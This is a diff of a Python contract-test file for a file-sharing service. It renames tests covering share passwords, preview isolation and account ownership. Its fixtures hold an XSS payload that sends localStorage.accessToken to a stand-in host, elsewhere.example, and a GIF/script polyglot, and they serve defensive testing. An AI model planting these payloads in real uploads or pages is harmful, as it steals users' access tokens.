@@ -1,4 +1,4 @@
-"""Links and passwords on the running system: what the gateway and the store make of what the share service decides."""
+"""Links and passwords on the running system: the gateway and the store carry out what the share service decides."""
 
 import base64
 import hashlib
@@ -15,7 +15,7 @@ from tests.contract.fileuploader import wire as uploader
 
 PREVIEW_POLICY = "sandbox; default-src 'none'; img-src 'self' data:; media-src 'self'; style-src 'unsafe-inline'"
 SCRIPT = b"<script>fetch('//elsewhere.example/' + localStorage.accessToken)</script>"
-# One file that is an image, a page and a script, by whoever looks at it.
+# A file that can be read as an image, as a page and as a script.
 POLYGLOT = b"GIF89a/*" + SCRIPT + b"*/=1;alert(document.domain)//"
 
 
@@ -64,7 +64,7 @@ def test_no_preview_can_reach_the_app_s_origin(
     assert (beyond.status_code, beyond.headers["content-range"]) == (416, f"bytes */{len(content)}")
 
 
-def test_a_file_s_password_is_asked_for_by_every_way_to_it(client: httpx.Client, owner: httpx.Client) -> None:
+def test_every_way_to_a_file_asks_for_its_password(client: httpx.Client, owner: httpx.Client) -> None:
     link = uploader.upload(owner, b"the content", "secret.txt")
     file_id = share_of(owner, link)["file_id"]
     code = owner.post("/v1/shares", json={"file_id": file_id, "form": "code"}).json()["code"]
@@ -84,7 +84,7 @@ def test_a_file_s_password_is_asked_for_by_every_way_to_it(client: httpx.Client,
     assert client.get(f"/file/{link['file_url']}").content == b"the content"
 
 
-def test_a_share_s_password_is_its_own(client: httpx.Client, owner: httpx.Client) -> None:
+def test_a_share_has_a_password_of_its_own(client: httpx.Client, owner: httpx.Client) -> None:
     link = uploader.upload(owner, b"the content")
     share = share_of(owner, link)
     second = owner.post("/v1/shares", json={"file_id": share["file_id"], "password": "pw"}).json()
@@ -93,7 +93,9 @@ def test_a_share_s_password_is_its_own(client: httpx.Client, owner: httpx.Client
     assert client.get(second["url"], headers={"X-Share-Password": "pw"}).content == b"the content"
 
 
-def test_what_filecodebox_s_clients_share_while_signed_in_is_theirs(owner: httpx.Client, client: httpx.Client) -> None:
+def test_shares_made_through_filecodebox_belong_to_the_signed_in_account(
+    owner: httpx.Client, client: httpx.Client
+) -> None:
     codes = [box.share_file(owner, box.content()), box.share_text(owner)]
     others = [box.share_file(client, box.content()), box.share_text(client)]
     found = {share["code"]: share for share in owner.get("/v1/shares").json()["shares"]}
